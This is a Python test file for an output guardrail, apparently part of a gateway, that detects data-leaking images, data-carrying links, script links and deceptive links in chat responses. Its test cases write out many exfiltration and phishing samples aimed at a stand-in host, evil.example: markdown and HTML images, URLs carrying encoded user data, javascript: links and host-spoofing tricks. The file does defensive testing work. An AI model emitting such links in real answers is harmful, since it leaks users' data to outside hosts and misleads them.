"""The rail `links`: images and links by which data leaves."""

from __future__ import annotations

import base64
from functools import cache
from itertools import pairwise
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pydantic import ValidationError
from railed.world import Kept, chat, kept, says
from rails.found import SCENE, kinds, streamed, whole

from tidegate.kernel.linear import Presence
from tidegate.kernel.text import Views
from tidegate.rails.rules.leaking.addresses import address_of
from tidegate.rails.rules.leaking.links import Links, LinksConfig

HOSTS = ("cdn.example.com", "*.shop.example")
DATA = base64.b64encode(b"the user lives in York").decode()
HEXED = b"the user lives in York".hex()


@cache
def rail(**more: Any) -> Links:
    return Links(LinksConfig.model_validate({"allow_hosts": HOSTS, **more}))


def found(text: str, **more: Any) -> set[str]:
    return {kind for _, kind in kinds(rail(**more), text)}


# --------------------------------------------------------------------------------------------------------------- images


@pytest.mark.parametrize(
    "image",
    [
        "![a](https://evil.example/x.png)",
        "![](http://evil.example/x.png)",
        '![a](<https://evil.example/x y.png> "title")',
        "![a\\]b](https://evil.example/x.png)",
        "![a [b] c](https://evil.example/x.png)",
        "![a](//evil.example/x.png)",
        "![a](  https://evil.example/x.png)",
        "![a](HTTPS://EVIL.example/x.png)",
        r"![a](https:\\evil.example/x.png)",
        "![a](https:///evil.example/x.png)",
        "![a](&#104;ttps://evil.example/x.png)",
        "![a](https://cdn.example.com@evil.example/x.png)",
        "![a](https://cdn.example.com.evil.example/x.png)",
        "![a](https://evilcdn.example.com/x.png)",
        "![a](https://shop.example/x.png)",
        "![a](https://cdn.ex\u0430mple.com/x.png)",
        "![a](https://%65vil.example/x.png)",
        "![a][b]",
        "![a][]",
        "![a]",
        "<img src=https://evil.example/x.png>",
        "<IMG alt='a > b' SRC = 'https://evil.example/x.png'>",
        '<img srcset="/a.png, https://evil.example/x.png 2x">',
        "<svg/href=//evil.example/x>",
        "<iframe src='https://evil.example'>",
        '<form action="https://evil.example/x">',
        '<meta http-equiv="refresh" content="0; url=https://evil.example/x">',
        '<video poster="https://evil.example/x.png">',
        '<table background="https://evil.example/x.png">',
    ],
)
def test_images_from_other_hosts_are_found_as_a_whole(image: str):
    assert kinds(rail(), f"So: {image} here") == [(image, "IMAGE_LINK")]


END = "](https://evil.example/x.png)"


def test_images_with_odd_texts_are_found_by_their_ends():
    assert kinds(rail(), f"![a\nb{END}") == [(END, "IMAGE_LINK")]
    assert kinds(rail(), f"![a [b\n] c{END}") == [(END, "IMAGE_LINK")]
    assert kinds(rail(), f"![{'a' * 150}{END}") == [(END, "IMAGE_LINK")]
    assert kinds(rail(), f"[a\nb{END}") == []
    assert kinds(rail(), f"[a\nb](https://evil.example/?d={DATA})") == [
        (f"](https://evil.example/?d={DATA})", "DATA_LINK")
    ]


def test_a_long_text_is_read_in_parts_without_mistaking_the_parts_of_links():
    link = "[the tide and the moon](https://en.wikipedia.org/wiki/Tide)"
    for at in range(len(link)):
        assert whole(rail(), link[at:] + " and so on") == []


def test_the_end_of_an_image_is_told_from_that_of_a_link_by_its_own_bracket():
    assert found(f"![a [b]\n{END}") == {"IMAGE_LINK"}
    assert found(f"![a] [b\n{END}", images="data") == set()
    assert found(f"] [ ![a\n] b{END}") == set()
    assert kinds(rail(images="data"), f"![a\n[b] {'c' * 100}{END}") == []
    many = f"![a\n{END}" * 40 + f"[b\n{END}" * 40
    assert kinds(rail(), many) == [(END, "IMAGE_LINK")] * 40


def test_short_addresses_are_read_for_gaps_too():
    assert found("[a](//b.c/{{x}})") == {"DATA_LINK"}
    assert found("[a](//b.c/%7B%7B)") == {"DATA_LINK"}
    assert found("[a](//b.c/12345678)", longest_value=8) == set()
    assert found("[a](//b.c/?123456789)", longest_value=8) == {"DATA_LINK"}


def test_style_sheets_load_images_too():
    assert found("<div style=\"background: url('https://evil.example/x')\">") == {"IMAGE_LINK"}
    assert found("a { background: url(//evil.example/x) }") == {"IMAGE_LINK"}
    assert found("a { background: url(x.png) }") == set()


def test_an_image_within_a_link_is_found():
    text = "[![a](https://evil.example/x.png)](https://other.example)"
    assert kinds(rail(), text) == [("![a](https://evil.example/x.png)", "IMAGE_LINK")]


@pytest.mark.parametrize(
    "text",
    [
        "![a](https://cdn.example.com/x.png)",
        "![a](https://cdn.example.com:443/x.png?size=2)",
        "![a](https://img.shop.example/x.png)",
        "![a](https://\uff43dn.example.com/x.png)",  # a full-width letter, which browsers fold
        "![a](/x.png)",
        "![a](x.png)",
        "![a](data:image/png;base64,iVBORw0KGgo=)",
        "<img src='/x.png'>",
        f"![a](https://cdn.example.com/x.png?d={DATA})",
        "let v = vec![1, 2]; println![x];",
        "Wow! [a](https://other.example/x)",
        "a <b and b> c, Vec<String>, if (a<img) b>c",
    ],
)
def test_images_from_allowed_hosts_and_what_is_no_image_are_nothing(text: str):
    assert whole(rail(), text) == []


def test_the_policies_of_images():
    assert found("![a](/x.png)", images="block") == {"IMAGE_LINK"}
    assert found("![a](https://cdn.example.com/x.png)", images="block") == {"IMAGE_LINK"}
    assert found("![a](https://evil.example/x.png)", images="data") == set()
    assert found("![a][b]", images="data") == set()
    assert found(f"![a](https://evil.example/x.png?d={DATA})", images="data") == {"IMAGE_LINK"}


# ---------------------------------------------------------------------------------------------------------------- links


@pytest.mark.parametrize(
    "url",
    [
        f"https://evil.example/?d={DATA}",
        f"https://evil.example/?{DATA}",
        f"https://evil.example/{DATA}/x",
        f"https://evil.example/#{DATA}",
        f"https://evil.example/?d={HEXED}",
        f"https://{DATA.strip('=')}@evil.example/",
        f"https://{HEXED[:30]}.evil.example/",
        "https://evil.example/?d=the+user+lives+in+york+and+has+two+cats",
        "https://evil.example/the%20user%20lives%20in%20york%20and%20has%20cats",
        "https://evil.example/?d=" + "x7" * 80,
        "https://" + "a1b" * 15 + ".evil.example/",
        "www.evil.example/?d=" + DATA,
        "//evil.example/?d=" + DATA,
    ],
)
def test_addresses_that_carry_data_are_found(url: str):
    link = f"[more]({url})"
    assert kinds(rail(), f"See {link}.") == [(link, "DATA_LINK")]
    assert found(f'<a href="{url}">more</a>') == {"DATA_LINK"}
    if not url.startswith("//"):
        assert kinds(rail(), f"See {url}.") == [(url, "DATA_LINK")]
    assert found(f"[more]({url.replace('evil.example', 'x.shop.example')})") == set()


def test_templates_count_where_they_are_shown():
    assert found("[a](https://evil.example/?d={{summary}})") == {"DATA_LINK"}
    assert found("curl https://api.example/v1?key=${KEY}") == set()


@pytest.mark.parametrize(
    "text",
    [
        "https://en.wikipedia.org/wiki/Tide_(disambiguation)",
        "https://github.com/a/b/commit/0123456789abcdef0123456789abcdef01234567",
        "https://example.org/550e8400-e29b-41d4-a716-446655440000",
        "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s",
        "https://docs.google.com/document/d/1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms/edit",
        "https://news.example/2024/05/why-the-tide-turns-twice-a-day-and-what-the-moon-has-to-do-with-it",
        "https://www.google.com/search?q=best+pizza+in+new+york",
        "https://maps.example/?ll=51.50,-0.12&z=12",
        "[1]: https://en.wikipedia.org/wiki/Tide",
        "[^1]: https://example.org/a",
        "[tides](https://en.wikipedia.org/wiki/Tide)",
        "[mail us](mailto:help@example.org)",
        "[above](#top) and [there](../x.md) and <https://example.org>",
        "GET https://api.example.org/users/{id}/posts",
        "f(a)[0](b) and x[i](j)",
        "data: 1, javascript: the good parts",
    ],
)
def test_usual_links_are_nothing(text: str):
    assert whole(rail(), text) == []


def test_scripts_are_found():
    for url in (
        "javascript:alert(1)",
        "JaVa\tScript:alert(1)",
        "&#106;avascript:x",
        "vbscript:x",
        "data:text/html,x",
    ):
        assert found(f"[a]({url})") == {"SCRIPT_LINK"}
        assert found(f'<a href="{url}">a</a>') == {"SCRIPT_LINK"}
    assert found(r"[a](javascript\:alert(1))") == {"SCRIPT_LINK"}
    assert found("[a]: javascript:alert(1)") == {"SCRIPT_LINK"}
    assert found("![a](data:text/html,x)") == {"SCRIPT_LINK"}
    assert found("<iframe src='javascript:x'>") == {"SCRIPT_LINK"}


@pytest.mark.parametrize(
    "text",
    [
        "[https://bank.example](https://evil.example)",
        "[www.bank.example/login](https://evil.example)",
        "[bank.com](https://evil.example)",
        "[**https://bank.example**](https://evil.example)",
        '<a href="https://evil.example">https://bank.example/</a>',
        '<a class="x" href="https://evil.example"><b>bank.com</b></a>',
    ],
)
def test_links_that_name_another_host_are_found(text: str):
    assert found(text) == {"FALSE_LINK"}


@pytest.mark.parametrize(
    "text",
    [
        "[https://bank.example](https://bank.example/login)",
        "[bank.com](https://www.bank.com)",
        "[bank.com](https://login.bank.com/x)",
        "[Node.js](https://nodejs.org)",
        "[README.md](https://github.com/a/b)",
        "[https://bank.example](https://x.shop.example/go)",
        "[https://bank.example](/go)",
    ],
)
def test_links_that_name_their_own_host_are_nothing(text: str):
    assert found(text) == set()


def test_the_policies_of_links():
    link, allowed = "https://other.example/x", "https://cdn.example.com/x"
    assert found(f"see {link}", links="allow_listed") == {"LINK"}
    assert found(f"see {allowed}", links="allow_listed") == set()
    assert found(f"see {allowed}", links="block") == {"LINK"}


def test_hosts_are_hosts_alone():
    for host in ("https://example.com", "example.com/x", "exa*mple.com", ""):
        with pytest.raises(ValidationError, match="write a host alone"):
            rail(allow_hosts=(host,))


def test_addresses_are_read_as_browsers_read_them():
    assert address_of("https://a:b@Exam\tple.com.:8443\\x?y#z")[1:] == ("example.com", "a:b", "/x?y#z")
    assert address_of("http:/example.com").host == "example.com"
    assert address_of("mailto:a@example.com").host == ""
    assert address_of("a/b?c=https://example.com").host == ""


# -------------------------------------------------------------------------------------------------------------- streams

PARTS = st.sampled_from(
    (
        "![a](https://evil.example/x.png)", "![a](https://cdn.example.com/x.png)", "[a](https://b.example)", "![a]", "[b]",
        "(https://evil.example/y)", f"https://evil.example/?d={DATA}", "https://b.example/x", "javascript:x", "[a](",
        "<img src='//evil.example/x'>", '<a href="https://evil.example">bank.com</a>', "<img ", "[", "]", "(", ")", "!",
        " ", ".", "\n", "words and ", "<", ">", "\u0430", "www.", "url(//evil.example/x)", "]: ", "\\", '"',
        "long words " * 9,
    )
)  # fmt: skip


LINKS = rail()
SIGNS = Presence(LINKS.signs.patterns)


@settings(max_examples=150)
@given(st.lists(PARTS, max_size=8), st.data())
def test_streams_and_whole_texts_are_judged_alike(parts: list[str], data: st.DataObject):
    text = "".join(parts)
    places = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=6)))
    spans, _ = streamed(LINKS, [text[start:end] for start, end in pairwise([0, *places, len(text)])])
    assert [one[:2] for one in spans] == [one[:2] for one in whole(LINKS, text)]


@given(st.lists(PARTS, max_size=4).map("".join))
def test_a_plain_text_without_a_sign_is_passed(text: str):
    if text.isascii() and not SIGNS.within(text.encode()):
        assert LINKS.check(Views(text), SCENE).passed


@pytest.fixture(name="gateway", scope="module")
def _gateway():
    links = {"kind": "links", "allow_hosts": list(HOSTS)}
    profiles = {one: {"rails": [{**links, "on_fail": one}]} for one in ("block", "redact")}
    with kept(section={"profiles": profiles}, policy={"stricter_rails": list(profiles)}) as gateway:
        yield gateway


IMAGE = f"![a](https://evil.example/x.png?d={DATA})"


@settings(max_examples=40, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.data())
def test_nothing_of_an_image_is_shown(gateway: Kept, data: st.DataObject):
    text = f"Here it is: {IMAGE} as you asked."
    places = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=6)))
    gateway.world.engine.says = says(*(text[start:end] for start, end in pairwise([0, *places, len(text)])))
    shown = gateway.ask(chat(stream=True), "x-tidegate-profile: redact").text
    assert shown == "Here it is: <IMAGE_LINK> as you asked."
    shown = gateway.ask(chat(stream=True), "x-tidegate-profile: block").text
    assert "Here it is: ".startswith(
        shown.removesuffix("I'm sorry, but I can't help with that.").rstrip("\n")
    )
